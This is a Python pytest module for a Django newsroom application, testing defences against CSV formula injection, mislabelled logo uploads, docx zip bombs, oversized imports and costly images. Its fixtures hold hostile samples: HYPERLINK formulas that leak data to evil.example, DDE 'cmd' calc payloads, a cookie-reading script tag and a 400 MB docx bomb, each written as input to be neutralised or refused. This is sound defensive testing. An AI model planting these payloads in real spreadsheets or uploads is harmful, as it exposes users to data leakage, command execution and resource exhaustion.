"""Hostile files and hostile cells: what an upload, an import or an export can
do to a worker or to the person who opens the result.

Each test here was written against the code before its fix and failed there.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from tests.factories import MediaContactFactory, OrganisationFactory

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
APPS = ("core", "contacts", "releases", "search", "bulletins", "importer", "api", "newsroom")


# -- CSV exports: no cell is run as a spreadsheet formula ----------------------

#: Cells a spreadsheet would run (a link that leaks data, a DDE call, sums).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '  =HYPERLINK("http://evil.example","X")',
    "\n=1+1",
]


def is_live_formula(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` as a formula that can do harm
    (OWASP's triggers).  A cell of digits and phone punctuation only can call
    no function and name no cell: it is a phone number, kept pasteable."""
    if re.fullmatch(r"[0-9 ()+\-./]+", cell):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("formula", FORMULAS)
def test_core_csv_writer_neutralises_every_formula_trigger(formula):
    from core.csv import writer

    out = io.StringIO()
    writer(out).writerow([formula, "Plain text", "+(92) 334 4563210", 7, None])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells[0] == "'" + formula  # neutralised, nothing lost
    assert not is_live_formula(cells[0])
    # Plain text, a phone number (only digits and punctuation: no function
    # can be called) and numbers are written as they are.
    assert cells[1:] == ["Plain text", "+(92) 334 4563210", "7", ""]


def test_every_column_of_the_contacts_export_is_neutralised(admin_client):
    hostile = iter(FORMULAS * 2)
    organisation = OrganisationFactory(
        name='=HYPERLINK("http://evil.example","X")', acronym="@EVIL"
    )
    contact = MediaContactFactory(
        organisation=organisation,
        honorific="=1+1",
        name=next(hostile),
        job_title=next(hostile),
        email="=cmd|'/Ccalc'!A0@evil.example",  # a valid address, and a formula
        phone='=HYPERLINK("http://evil.example","Call")',
        staff_notes=next(hostile),
    )
    second = MediaContactFactory(
        organisation=OrganisationFactory(name=" -1+cmd|' /C calc'!A0", acronym=""),
        honorific="",
        name=next(hostile),
        job_title=next(hostile),
        email="-2+3@evil.example",
        phone="+92 51 1234567",
        staff_notes=next(hostile),
    )
    response = admin_client.post(
        reverse("admin:contacts_mediacontact_changelist"),
        {"action": "export_csv", "_selected_action": [contact.pk, second.pk]},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 2
    for row in body:
        for column, cell in zip(header, row, strict=True):
            assert not is_live_formula(cell), f"{column} is live in the export: {cell!r}"
    by_email = {row[header.index("E-mail")]: row for row in body}
    first = by_email["'=cmd|'/ccalc'!a0@evil.example"]  # e-mails are stored lower-case
    organisation_cell = first[header.index("Organisation")]
    assert organisation_cell == "'" + '=HYPERLINK("http://evil.example","X") (@EVIL)'
    assert first[header.index("Name")] == "'" + contact.name
    assert first[header.index("Honorific")] == "'=1+1"
    assert first[header.index("Phone")] == "'" + contact.phone
    assert first[header.index("Staff notes")] == "'" + contact.staff_notes
    other = by_email["'-2+3@evil.example"]
    assert other[header.index("Organisation")] == "' -1+cmd|' /C calc'!A0"
    assert other[header.index("Phone")] == "+92 51 1234567"  # a phone number stays pasteable


def test_every_csv_export_goes_through_the_core_writer():
    """A new export cannot forget the neutraliser: only ``core/csv.py`` may
    make a writer of the standard library."""
    pattern = re.compile(r"\bcsv\.(?:writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts
        and path != ROOT / "core" / "csv.py"
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"use core.csv.writer instead of csv.writer in {offenders}"


# -- Organisation logos: the type is the content's, never the uploaded name's ------


def _png(width: int = 40, height: int = 20) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "navy").save(buffer, "PNG")
    return buffer.getvalue()


def _logo_response(client, organisation):
    response = client.get(organisation.logo_url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    return response, body


def test_a_png_uploaded_as_pdf_is_stored_and_served_as_png(admin_client, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from contacts.models import Organisation
    from tests.admin.test_admin_contacts import organisation_data

    data = _png()
    logo = SimpleUploadedFile("logo.pdf", data, content_type="application/pdf")
    response = admin_client.post(
        reverse("admin:contacts_organisation_add"), {**organisation_data(), "logo": logo}
    )
    assert response.status_code == 302
    organisation = Organisation.objects.get(slug="hrec")
    assert organisation.logo.name.startswith("logos/")
    assert organisation.logo.name.endswith(".png"), organisation.logo.name
    response, body = _logo_response(client, organisation)
    assert body == data
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert ".pdf" not in response.get("Content-Disposition", "")


def test_an_old_logo_stored_under_a_wrong_name_is_served_by_its_content(client):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    data = _png()
    name = default_storage.save("logos/annual-report.pdf", ContentFile(data))
    organisation = OrganisationFactory()
    organisation.logo.name = name
    organisation.save()
    response, body = _logo_response(client, organisation)
    assert body == data
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert ".pdf" not in response.get("Content-Disposition", "")


def test_an_old_logo_that_is_no_image_is_not_served(client):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    name = default_storage.save(
        "logos/logo.html", ContentFile(b"<html><script>alert(document.cookie)</script>")
    )
    organisation = OrganisationFactory()
    organisation.logo.name = name
    organisation.save()
    assert client.get(organisation.logo_url).status_code == 404


# -- The importer: zip bombs, huge documents, thousands of releases ----------------

SAMPLE_DOCX = ROOT / "tests" / "samples" / "lahore_training.docx"
IMPORT_URL = "/admin/importer/importrecord/import/"


def docx_with(
    document_xml: bytes | None = None, *, stream: tuple[bytes, int] | None = None
) -> bytes:
    """The sample Word file with its ``word/document.xml`` replaced.

    ``stream=(chunk, times)`` writes the part chunk by chunk, so a test can
    make a part of hundreds of megabytes without holding it in memory.
    """
    import zipfile

    source = zipfile.ZipFile(SAMPLE_DOCX)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                archive.writestr(info, source.read(info))
            elif stream is not None:
                chunk, times = stream
                with archive.open(info.filename, "w", force_zip64=True) as part:
                    for _ in range(times):
                        part.write(chunk)
            else:
                archive.writestr(info.filename, document_xml)
    return out.getvalue()


def body_xml(inner: str) -> bytes:
    """A ``word/document.xml`` whose body holds ``inner``."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{inner}</w:body></w:document>"
    ).encode()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


@pytest.fixture(scope="module")
def docx_bomb() -> bytes:
    """444 KB of Word file whose document.xml unpacks to 400 MB."""
    chunk = b"<w:p/>" * (1 << 17)  # 768 KB
    return docx_with(stream=(chunk, 400 * (1 << 20) // len(chunk)))


def test_a_docx_bomb_is_refused_from_the_zip_directory_alone(docx_bomb, monkeypatch):
    import zipfile

    from importer.errors import ImportFileError
    from importer.reader import read_source

    assert len(docx_bomb) < 1024 * 1024
    opened: list[str] = []
    real_open = zipfile.ZipFile.open

    def spy(self, name, *args, **kwargs):
        opened.append(getattr(name, "filename", name))
        return real_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    with pytest.raises(ImportFileError) as refused:
        read_source(docx_bomb, "bomb.docx")
    message = str(refused.value)
    assert "bomb.docx" in message and "word/document.xml" in message
    assert "unpacks to" in message and "MB" in message
    assert opened == [], "refused from the sizes the archive declares, before unpacking"


def test_the_import_command_refuses_a_docx_bomb(docx_bomb, tmp_path):
    from django.core.management import CommandError, call_command

    from releases.models import PressRelease

    path = tmp_path / "bomb.docx"
    path.write_bytes(docx_bomb)
    with pytest.raises(CommandError, match=r"bomb\.docx: .*unpacks to"):
        call_command("import_releases", str(path), stdout=io.StringIO())
    assert PressRelease.objects.count() == 0


def test_the_admin_import_refuses_a_docx_bomb_with_a_message(docx_bomb, admin_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = admin_client.post(IMPORT_URL, {"file": SimpleUploadedFile("bomb.docx", docx_bomb)})
    assert response.status_code == 200
    assert "unpacks to" in response.content.decode()


def test_a_docx_that_unpacks_far_beyond_its_size_is_refused():
    """A part under the size limits but compressed a thousandfold is a bomb's
    shape, not a document's (Word's own parts compress about 3 to 30 times)."""
    from importer.errors import ImportFileError
    from importer.reader import read_source

    data = docx_with(stream=(b" " * (1 << 20), 6))  # 6 MB of blanks in a few KB
    with pytest.raises(ImportFileError, match=r"compressed [\d,]+ times"):
        read_source(data, "dense.docx")


def test_a_docx_of_hundreds_of_thousands_of_elements_is_refused():
    """Cheap to send, dear to parse: python-docx's tree costs per element.
    Numbered runs compress like ordinary Word XML, so only the count stops them."""
    from importer.errors import ImportFileError
    from importer.reader import read_source

    runs = "".join(f'<w:r w:rsidR="{n:06X}"/>' for n in range(400_000))
    data = docx_with(body_xml(f"<w:p>{runs}<w:r><w:t>PRESS RELEASE</w:t></w:r></w:p>"))
    with pytest.raises(ImportFileError, match=r"more than 300,000 XML elements"):
        read_source(data, "runs.docx")


def test_a_docx_of_too_many_paragraphs_is_refused():
    from importer.errors import ImportFileError
    from importer.reader import read_source

    data = docx_with(body_xml(paragraph("Line") * 25_000))
    with pytest.raises(ImportFileError, match="25,000 paragraphs and table cells"):
        read_source(data, "long.docx")


def test_a_long_vertically_merged_table_is_read_not_a_crash():
    """python-docx follows a merged cell up one row per call, recursively: a
    1,500-row merged column used to raise RecursionError (a 500 in the admin)."""
    from importer.reader import read_source

    top = '<w:tr><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr>' + paragraph("Contact")
    top += "</w:tc><w:tc>" + paragraph("Ms. A. Example") + "</w:tc></w:tr>"
    merged = "<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr>"
    table = "<w:tbl><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>" + top
    table += merged * 1_500 + "</w:tbl>"
    data = docx_with(body_xml(paragraph("PRESS RELEASE") + table + paragraph("ENDS")))
    text = read_source(data, "table.docx").text
    assert "PRESS RELEASE" in text and "Ms. A. Example" in text and "ENDS" in text


def release_text(number: int) -> str:
    """One short release in the shape offices send (our own invented words)."""
    return (
        "PRESS RELEASE\n\n"
        f"District library number {number} opens a reading room for children\n\n"
        f"Multan, 4 March 2024: The District Library Board opened reading room {number} "
        "on Monday, with books in Urdu, Saraiki and English for pupils of nearby schools.\n\n"
        "The room is open every afternoon and lends up to three books a week.\n\n"
        "ENDS\n\n"
    )


def media_update(releases: int) -> bytes:
    return ("".join(release_text(n) for n in range(1, releases + 1))).encode()


def test_a_file_of_one_release_more_than_the_limit_is_refused(settings, admin_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from importer.errors import ImportFileError
    from importer.writer import import_bytes
    from releases.models import PressRelease

    assert settings.NEWSROOM_IMPORT_MAX_RELEASES == 200
    with pytest.raises(ImportFileError, match=r"201 releases.*limit is 200 releases per file"):
        import_bytes(media_update(201), "many.txt", dry_run=True)
    response = admin_client.post(
        IMPORT_URL, {"file": SimpleUploadedFile("many.txt", media_update(201))}
    )
    assert response.status_code == 200
    assert "limit is 200 releases per file" in response.content.decode()
    assert PressRelease.objects.count() == 0


def test_a_file_at_the_limit_imports(settings):
    from importer.writer import import_bytes
    from releases.models import PressRelease

    outcome = import_bytes(media_update(settings.NEWSROOM_IMPORT_MAX_RELEASES), "full.txt")
    assert len(outcome.releases) == 200
    assert PressRelease.objects.filter(status=PressRelease.Status.DRAFT).count() == 200


def test_the_release_limit_is_a_setting(settings):
    from importer.errors import ImportFileError
    from importer.writer import import_bytes

    settings.NEWSROOM_IMPORT_MAX_RELEASES = 2
    with pytest.raises(ImportFileError, match="limit is 2 releases per file"):
        import_bytes(media_update(3), "three.txt", dry_run=True)
    assert len(import_bytes(media_update(2), "two.txt", dry_run=True).releases) == 2


def test_a_text_beyond_the_size_limit_is_refused():
    from importer.errors import ImportFileError
    from importer.reader import read_source

    body = "The reading room lends books to pupils every afternoon. " * 20_000
    text = release_text(1) + body
    assert len(text) > 1_000_000
    with pytest.raises(ImportFileError, match=r"limit is 1,000,000 characters per file"):
        read_source(text.encode(), "long.txt")


def test_a_file_of_too_many_contacts_is_refused():
    from importer.errors import ImportFileError
    from importer.writer import import_bytes

    contacts = "".join(
        f"Ms. Example Person {n}\nLibrarian\nDistrict Library Board\n"
        f"Email: person{n}@library.example.org\n\n"
        for n in range(401)
    )
    data = (release_text(1).replace("ENDS\n\n", "ENDS\n\nMedia contacts:\n") + contacts).encode()
    with pytest.raises(ImportFileError, match="401 contacts; the limit is 400 contacts per file"):
        import_bytes(data, "contacts.txt", dry_run=True)


# -- Pictures: the largest accepted image is cheap enough for a worker -------------

#: Peak memory (RSS) that validating the worst accepted picture and making
#: one rendition of it adds to a fresh Django process (itself ~65-70 MB,
#: more as apps are added, so it is measured and taken off): the one decode,
#: 4 bytes a pixel for a PNG (~200 MB at 40 megapixels), and for a
#: progressive JPEG without chroma subsampling libjpeg's buffer of every DCT
#: coefficient, 6 bytes a pixel, which no scaled decode avoids (~250 MB: the
#: worst case).
MEMORY_BUDGET_MB = 260
#: The worst accepted pixel count: the default NEWSROOM_IMAGE_MAX_PIXELS.
WORST_SIZE = (8000, 5000)

MAKE_WORST = """
import sys
from PIL import Image
width, height = int(sys.argv[2]), int(sys.argv[3])
path, kind = sys.argv[1], sys.argv[4]
mode = "RGB" if kind == "jpeg" else "RGBA"
picture = Image.new(mode, (width, height), (30, 90, 160, 200)[: len(mode)])
picture.paste((200, 40, 40, 255)[: len(mode)], (width // 4, height // 4, width // 2, height // 2))
if kind == "png":
    picture.save(path, "PNG", compress_level=1)
elif kind == "jpeg":  # the dearest JPEG to decode: progressive, no chroma subsampling
    picture.save(path, "JPEG", quality=90, progressive=True, subsampling=0)
else:
    picture.save(path, "WEBP", quality=50, method=0)
"""

MEASURE = """
import json, os, sys, time
import django
django.setup()
from django.core.files import File
from core.images import validate_image_file
from releases.renditions import RENDITIONS, render

def peak_mb():
    # The process's own high-water mark.  Not ru_maxrss: on Linux that keeps,
    # across exec, the peak of the forking parent (here a pytest worker).
    with open("/proc/self/status") as status:
        line = next(line for line in status if line.startswith("VmHWM:"))
    return int(line.split()[1]) // 1024

base = peak_mb()
start = time.monotonic()
with open(sys.argv[1], "rb") as handle:
    upload = File(handle, name=os.path.basename(sys.argv[1]))
    validate_image_file(upload)  # the upload request
    web = render(upload, RENDITIONS["web"], "jpeg")  # the first request of a rendition
print(json.dumps({
    "base_mb": base,
    "peak_mb": peak_mb(),
    "seconds": round(time.monotonic() - start, 2),
    "bytes": len(web),
}))
"""


def _python(*args: str) -> str:
    import os
    import subprocess
    import sys

    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "newsroom.settings", "NEWSROOM_TESTING": "1"}
    env["PYTHONPATH"] = str(ROOT)
    done = subprocess.run(
        [sys.executable, "-c", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


@pytest.fixture(scope="module")
def worst_pictures(tmp_path_factory) -> dict[str, Path]:
    """The worst accepted picture of each kind, made in subprocesses side by side
    (so the making costs neither this worker's memory nor much time)."""
    import os
    import subprocess
    import sys

    folder = tmp_path_factory.mktemp("worst")
    pixels = 40_000_000
    sizes = {"png": WORST_SIZE, "jpeg": WORST_SIZE, "webp": (3999, 2500)}  # WebP: a quarter
    assert WORST_SIZE[0] * WORST_SIZE[1] == pixels and pixels // 4 >= 3999 * 2500
    paths = {kind: folder / f"worst.{kind}" for kind in sizes}
    runs = [
        subprocess.Popen(
            [sys.executable, "-c", MAKE_WORST, str(paths[kind]), *map(str, sizes[kind]), kind],
            env={**os.environ},
        )
        for kind in sizes
    ]
    assert all(run.wait(timeout=120) == 0 for run in runs)
    return paths


@pytest.mark.parametrize("kind", ["png", "jpeg", "webp"])
def test_the_worst_accepted_picture_fits_the_memory_budget(worst_pictures, kind, settings):
    import json

    figures = json.loads(_python(MEASURE, str(worst_pictures[kind])))
    print(f"\n{kind}: {figures}")  # the figures reported in docs and reviews
    assert figures["peak_mb"] - figures["base_mb"] <= MEMORY_BUDGET_MB, figures
    # ...and it is the worst accepted: one pixel more is refused.
    assert WORST_SIZE[0] * WORST_SIZE[1] == settings.NEWSROOM_IMAGE_MAX_PIXELS


def _picture_form(data: bytes, name: str, instance=None, caption: str = "Supplies arrive."):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from releases.admin.media import ReleaseImageForm
    from tests.factories import PressReleaseFactory

    fields = {
        "alt_text": "Boxes of supplies on a truck",
        "caption": caption,
        "credit": "© Example 2024/A. Photographer",
        "usage_terms": "Free for editorial use with credit.",
        "order": 0,
    }
    files = {"image": SimpleUploadedFile(name, data)} if data else {}
    form = ReleaseImageForm(data=fields, files=files, instance=instance)
    if instance is None:
        form.instance.release = PressReleaseFactory()
    return form


def _png_of(width: int, height: int, mode: str = "RGB") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new(mode, (width, height), (90, 140, 60, 255)[: len(mode)]).save(buffer, "PNG")
    return buffer.getvalue()


@pytest.fixture
def count_decodes(monkeypatch):
    """Every full decode of a picture, as ``(format, size)``."""
    from PIL import ImageFile

    decodes: list[tuple[str, tuple[int, int]]] = []
    real_load = ImageFile.ImageFile.load

    def load(self):
        if self.tile:  # pixels still to decode
            decodes.append((self.format, self.size))
        return real_load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
    return decodes


def test_an_upload_is_decoded_once_and_renders_nothing_in_the_request(
    count_decodes, django_capture_on_commit_callbacks
):
    from django.core.files.storage import default_storage

    from releases.renditions import RENDITIONS, ensure_rendition

    form = _picture_form(_png_of(3000, 2000, "RGBA"), "photo.png")
    with django_capture_on_commit_callbacks(execute=True):  # the upload request
        assert form.is_valid(), form.errors
        image = form.save()
    folder = f"releases/renditions/{image.pk}/{image.checksum[:16]}"
    stored = default_storage.listdir(folder)[1] if default_storage.exists(folder) else []
    assert not any(name.startswith(tuple(RENDITIONS)) for name in stored), stored
    # Later requests make every rendition, in both formats, without decoding
    # the original again.
    for name in RENDITIONS:
        for fmt in ("jpeg", "webp"):
            ensure_rendition(image, name, fmt)
    # Editing the caption does not decode (nor re-check) the stored picture.
    edit = _picture_form(b"", "", instance=image, caption="A better caption.")
    assert edit.is_valid(), edit.errors
    edit.save()
    assert [d for d in count_decodes if d[0] == "PNG"] == [("PNG", (3000, 2000))]


def test_a_picture_over_the_pixel_limit_is_refused_with_the_limit():
    from tests.files.test_media_validation import png_with_declared_size

    form = _picture_form(png_with_declared_size(8001, 5000), "huge.png")
    assert not form.is_valid()
    assert "8001×5000 pixels; the limit is 40.0 megapixels" in " ".join(form.errors["image"])


def test_a_webp_is_held_to_a_quarter_of_the_pixel_limit():
    """Pillow's WebP decoder keeps four full-size canvases (~15 bytes a pixel)."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4001, 2500), (20, 20, 20)).save(buffer, "WEBP", quality=10, method=0)
    form = _picture_form(buffer.getvalue(), "wide.webp")
    assert not form.is_valid()
    message = " ".join(form.errors["image"])
    assert "4001×2500 pixels; the limit for WebP is 10.0 megapixels" in message


def test_no_rendition_is_larger_than_the_working_copy_covers():
    from core.decoding import RENDITION_BOX
    from releases.renditions import RENDITIONS

    for spec in RENDITIONS.values():
        width, height = spec.size or (spec.width, 0)
        assert width <= RENDITION_BOX[0] and height <= RENDITION_BOX[1], spec


def test_a_replaced_or_deleted_picture_takes_its_working_copy_along(
    django_capture_on_commit_callbacks,
):
    from django.core.files.storage import default_storage

    from releases.renditions import ensure_rendition, master_path

    form = _picture_form(_png_of(1600, 900), "first.png")
    with django_capture_on_commit_callbacks(execute=True):
        assert form.is_valid(), form.errors
        image = form.save()
    first = master_path(image.pk, image.checksum)
    assert default_storage.exists(first)
    replace = _picture_form(_png_of(1700, 900), "second.png", instance=image)
    with django_capture_on_commit_callbacks(execute=True):
        assert replace.is_valid(), replace.errors
        image = replace.save()
    second = master_path(image.pk, image.checksum)
    assert default_storage.exists(second) and not default_storage.exists(first)
    ensure_rendition(image, "thumb")
    with django_capture_on_commit_callbacks(execute=True):
        image.delete()
    assert not default_storage.exists(second)
